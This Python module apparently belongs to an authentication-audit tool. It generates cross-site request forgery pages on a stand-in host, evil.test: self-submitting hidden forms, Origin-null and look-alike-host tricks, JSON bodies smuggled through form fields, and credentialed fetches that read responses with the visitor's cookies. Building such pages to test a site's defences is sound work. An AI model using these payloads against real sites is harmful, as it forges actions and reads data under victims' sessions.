"""Pages of another site that make the browser of whoever opens them send something to the site under audit."""

import json
from dataclasses import dataclass
from html import escape
from urllib.parse import urlencode, urlsplit

from authproof.client.agent import Fields
from authproof.site import Form

# By http: from a page by https a browser sends Origin `null` to a site by http, for its address is a secret then.
EVIL = "http://evil.test"
# What a form's own field named `submit` cannot hide.
_SUBMIT = "<script>HTMLFormElement.prototype.submit.call(document.forms[0])</script>"
_NO_REFERRER = '<meta name="referrer" content="no-referrer">'
_WHOLE_REFERRER = '<meta name="referrer" content="unsafe-url">'
# A fetch that has been answered or refused leaves its word here.
READ = "root => window.read"


@dataclass(frozen=True, slots=True)
class Bait:
    """A page of another site, and its address."""

    html: str
    url: str = f"{EVIL}/attack"


def link(url: str) -> Bait:
    """A link that is followed."""
    return Bait(f'<a href="{escape(url)}">Look</a><script>document.links[0].click()</script>')


def picture(url: str) -> Bait:
    """A picture that is none."""
    return Bait(f'<img src="{escape(url)}">')


def post(url: str, pairs: Fields) -> Bait:
    """A form that sends itself."""
    return Bait(_form(url, pairs))


def nameless_post(url: str, pairs: Fields) -> Bait:
    """The same with Origin `null` and no Referer (Fetch standard, 3.2; Referrer Policy, 8.3)."""
    return Bait(_NO_REFERRER + _form(url, pairs))


def look_alike_post(url: str, pairs: Fields) -> Bait:
    """The same from a host whose name begins as the site's own does, and that names it in its address."""
    split = urlsplit(url)
    host = f"{split.scheme}://{split.hostname}.evil.test"
    return Bait(_WHOLE_REFERRER + _form(url, pairs), f"{host}/{split.netloc}/")


def json_post(url: str, pairs: Fields) -> Bait:
    """JSON as a form can send it: its one field's name and value make an object, with a member too many."""
    body = json.dumps({**dict(pairs), "also": ""})
    return Bait(_form(url, [(body[:-2], body[-2:])], "text/plain"))


def json_fetch(url: str, method: str, pairs: Fields) -> Bait:
    """JSON by a method that no form has, for which the browser asks first (Fetch standard, 3.2.2)."""
    told = {"method": method, "credentials": "include", "body": json.dumps(dict(pairs))}
    return Bait(f"<script>fetch({_literal(url)}, {_literal(told)})</script>")


def sent(form: Form, pairs: Fields) -> Bait:
    """The form as its encoding and method ask for."""
    method = form.method.upper()
    if form.encoding == "json":
        return json_post(form.action, pairs) if method == "POST" else json_fetch(form.action, method, pairs)
    return post(form.action, pairs) if method == "POST" else followed(form, pairs)


def followed(form: Form, pairs: Fields) -> Bait:
    """The form's fields in the address of a link."""
    return link(with_fields(form.action, pairs))


def with_fields(url: str, pairs: Fields) -> str:
    """An address with these fields behind what its query holds."""
    path, _, query = url.partition("?")
    return f"{path}?{'&'.join(filter(None, (query, urlencode(pairs))))}"


def frames(urls: tuple[str, ...]) -> Bait:
    """The pages in frames that no script of theirs can leave: one in which it runs, and one in which it does not."""
    boxes = ("allow-forms allow-same-origin allow-scripts", "allow-forms allow-same-origin")
    every = (f'<iframe sandbox="{box}" src="{escape(url)}"></iframe>' for url in urls for box in boxes)
    return Bait("".join(every))


def reader(url: str, origin: str) -> Bait:
    """A script of that origin that reads an answer with the visitor's cookies, and leaves it where `READ` looks."""
    ask = f"fetch({_literal(url)}, {{credentials: 'include'}}).then(one => one.text()).catch(() => '')"
    if origin == "null":
        inner = f"<script>{ask}.then(text => parent.postMessage(text, '*'))</script>"
        framed = f'<iframe sandbox="allow-scripts" srcdoc="{escape(inner)}"></iframe>'
        return Bait(f"<script>onmessage = told => {{ window.read = told.data }}</script>{framed}")
    return Bait(f"<script>{ask}.then(text => {{ window.read = text }})</script>", f"{origin}/attack")


def _form(url: str, pairs: Fields, encoding: str = "application/x-www-form-urlencoded") -> str:
    fields = "".join(
        f'<input type="hidden" name="{escape(name)}" value="{escape(value)}">' for name, value in pairs
    )
    return f'<form method="post" action="{escape(url)}" enctype="{encoding}">{fields}</form>{_SUBMIT}'


def _literal(value: object) -> str:
    """A value as a script writes it, in which no end tag can stand."""
    return json.dumps(value).replace("<", "\\u003c")
